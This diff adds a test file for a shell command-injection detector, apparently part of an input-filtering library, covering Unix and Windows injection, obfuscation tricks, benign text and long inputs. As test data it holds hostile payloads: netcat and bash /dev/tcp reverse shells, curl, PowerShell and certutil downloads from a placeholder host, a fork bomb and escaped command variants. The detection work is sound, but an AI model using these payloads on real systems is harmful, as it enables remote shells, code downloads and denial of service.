@@ -1,0 +1,89 @@
+import { detectShell } from "./shell";
+import { Detector, Level } from "./finding";
+
+function level(s: string): i32 { let f = detectShell(s); return f === null ? 0 : <i32>f.level; }
+function id(s: string): string { let f = detectShell(s); return f === null ? "" : f.id; }
+function det(s: string): i32 { let f = detectShell(s); return f === null ? 0 : <i32>f.detector; }
+
+describe("shell: Unix command injection", () => {
+  it("separators followed by commands", () => {
+    expect(level("127.0.0.1; cat /etc/hosts")).toBe(Level.Basic);
+    expect(level("x | id")).toBe(Level.Standard);
+    expect(level("a && uname -a")).toBe(Level.Standard);
+    expect(level("a || whoami")).toBe(Level.Standard);
+    expect(level("1;ls -la")).toBe(Level.Standard);
+    expect(id("x | id")).toBe("BW-UNIX-CMD-1");
+    expect(det("x | id")).toBe(Detector.UnixCmd);
+  });
+  it("substitutions", () => {
+    expect(level("$(whoami)")).toBe(Level.Standard);
+    expect(level("name=`uname -a`")).toBe(Level.Standard);
+    expect(level("<(id)")).toBe(Level.Standard);
+  });
+  it("reverse shells and downloads", () => {
+    expect(level("; nc -e /bin/sh 10.1.2.3 9001")).toBe(Level.Basic);
+    expect(level("x; bash -i >& /dev/tcp/10.1.2.3/9001 0>&1")).toBe(Level.Basic);
+    expect(level("| curl http://h.example/s.sh")).toBe(Level.Basic);
+  });
+  it("quote, escape and expansion obfuscation", () => {
+    expect(level("; c'a't /etc/hosts")).toBe(Level.Basic);
+    expect(level("1;c\\at /etc/hosts")).toBe(Level.Basic);
+    expect(level("; wh$@oami")).toBe(Level.Standard);
+    expect(level("cat${IFS}/etc/hosts")).toBe(Level.Standard);
+    expect(level("x;/bin/ca? /et?/hosts")).toBeLessThanOrEqual(Level.Standard);
+    expect(level("{cat,/etc/hosts}")).toBe(Level.Standard);
+    expect(level("'w'hoami")).toBe(Level.Standard);
+  });
+  it("whole-value command lines only when unmistakable", () => {
+    expect(level("cat /etc/hosts")).toBe(Level.Standard);
+    expect(level("nohup whoami")).toBeLessThanOrEqual(Level.Standard);
+    expect(level("ifconfig; echo")).toBeLessThanOrEqual(Level.Standard);
+    expect(level("f(){ f|f& };f")).toBe(Level.Standard);
+  });
+});
+
+describe("shell: Windows command injection", () => {
+  it("cmd, PowerShell and environment variables", () => {
+    expect(level("x & cmd /c dir")).toBe(Level.Standard);
+    expect(det("x & cmd /c dir")).toBe(Detector.WinCmd);
+    expect(level("powershell -enc SQBFAFgA")).toBe(Level.Standard);
+    expect(level("%COMSPEC% /c ver")).toBe(Level.Standard);
+    expect(level("IEX (New-Object Net.WebClient).DownloadString('http://h.example')")).toBe(Level.Standard);
+    expect(level("x | w^hoami")).toBe(Level.Standard);
+    expect(level("x & certutil.exe -urlcache -f http://h.example/a a.exe")).toBe(Level.Basic);
+  });
+});
+
+describe("shell: benign text passes at Standard", () => {
+  it("punctuation in prose", () => {
+    expect(level("salt; pepper; cat food")).toBe(0);
+    expect(level("Tom & Jerry")).toBe(0);
+    expect(level("R&D and Q&A")).toBe(0);
+    expect(level("rock & roll | jazz; blues")).toBe(0);
+    expect(level("see docs; time is short")).toBe(0);
+  });
+  it("tables and paths", () => {
+    expect(level("| id | name | email |\n|----|------|-------|\n| 1 | Ann | a@b.c |")).toBe(0);
+    expect(level("/usr/local/bin")).toBe(0);
+    expect(level("C:\\Users\\ann\\Documents")).toBe(0);
+    expect(level("src/main/java/App.java")).toBe(0);
+  });
+  it("pasted snippets in multi-line comments are at most Strict", () => {
+    let l = level("Steps:\n\n```sh\ncat /var/log/app.log | grep ERROR | wc -l\n```\n\nThanks");
+    expect(l == 0 || l == Level.Strict).toBe(true);
+    l = level("query {\n  user(id: 1) {\n    id\n    name\n  }\n}");
+    expect(l).toBe(0);
+    expect(level("I ran wget yesterday and it worked")).toBe(0);
+  });
+  it("PHP and markup with ? and ;", () => {
+    expect(level("<?php echo $x; ?>")).toBe(0);
+  });
+});
+
+describe("shell: bounded work", () => {
+  it("handles long hostile input", () => {
+    expect(level(";'".repeat(100000))).toBeGreaterThanOrEqual(0);
+    expect(level("{a".repeat(100000))).toBe(0);
+    expect(level("a & b ".repeat(100000) + "; id")).toBe(Level.Standard);
+  });
+});
